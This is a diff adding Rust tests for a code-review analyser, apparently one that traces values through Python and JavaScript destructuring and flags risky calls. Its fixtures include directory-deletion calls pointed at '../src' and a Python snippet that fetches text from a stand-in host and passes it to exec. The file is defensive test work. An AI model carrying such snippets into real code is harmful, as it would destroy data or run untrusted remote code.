@@ -95,6 +95,73 @@ fn lists_and_maps_hold_what_was_put_into_them() {
 }
 
 #[test]
+fn targets_of_patterns_get_what_stands_at_their_places() {
+    assert_known(
+        "python",
+        &[
+            ("a, *b, c = ['1', '2', 'out', 'build']\nshutil.rmtree(c)", &["build"]),
+            ("a, *b = ['1', '2', 'build']\nshutil.rmtree(b[1])", &["build"]),
+            ("*a, b = ['build']\nshutil.rmtree(b)", &["build"]),
+        ],
+    );
+    assert_known(
+        "javascript",
+        &[
+            ("const [, a] = ['out', 'build']; rm(a)", &["build"]),
+            ("const [a, , , b] = ['1', '2', 'out', 'build']; rm(b)", &["build"]),
+            ("const [, ...a] = ['1', '2', 'build']; rm(a[1])", &["build"]),
+        ],
+    );
+    assert_told(
+        "python",
+        &[
+            "p = ['build']\na, *p = ['1', '../src']\nshutil.rmtree(p[0])",
+            "p = ['build']\na, *p = x\nshutil.rmtree(p[0])",
+            "p = 'build'\na, *b, c, p = ['1', '2']\nshutil.rmtree(p)",
+        ],
+    );
+    assert_told(
+        "javascript",
+        &[
+            "let p = ['build']; [a, ...p] = ['1', '../src']; rm(p[0])",
+            "let p = 'build'; ({a, ...p} = x); rm(p)",
+        ],
+    );
+}
+
+#[test]
+fn no_target_is_too_many() {
+    let names: String = (0..300).map(|at| format!("n{at}, ")).collect();
+    let items = "0, ".repeat(300);
+    let few = |all: &str| all.split_inclusive(", ").take(64).collect::<String>();
+    let (few_names, few_items) = (few(&names), few(&items));
+    let python = [
+        format!("p = 'build'\n{few_names}p = {few_items}'../src'\nshutil.rmtree(p)"),
+        format!("p = 'build'\n{names}p = {items}'../src'\nshutil.rmtree(p)"),
+        format!("p = 'build'\ndef f({few_names}p):\n    shutil.rmtree(p)\nf({few_items}'../src')"),
+        format!("from shutil import {names}rmtree\nrmtree('../src')"),
+    ];
+    assert_told("python", &python.each_ref().map(String::as_str));
+    let javascript = [
+        format!("let p = 'build'; [{few_names}p] = [{few_items}'../src']; rm(p)"),
+        format!("let p = 'build'; ({{{few_names}p}} = {{p: '../src'}}); rm(p)"),
+        format!("let p = 'build'; function f({few_names}p) {{ rm(p) }} f({few_items}'../src')"),
+        format!("import {{{names}rmSync}} from 'fs'; rmSync('../src')"),
+    ];
+    assert_told("javascript", &javascript.each_ref().map(String::as_str));
+}
+
+#[test]
+fn a_text_that_is_too_long_to_be_joined_keeps_the_marks_of_all_its_parts() {
+    for length in [1, 17_000] {
+        let head = "import requests\nd = requests.get('http://e.example').text";
+        let review = look("python", &format!("{head}\nexec(f'{}{{d}}')\n", "a".repeat(length)));
+        let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
+        assert!(rules.contains(&"py.eval-decoded"), "{length}: {rules:?}");
+    }
+}
+
+#[test]
 fn texts_and_paths_are_put_together_as_the_language_does() {
     assert_told(
         "python",
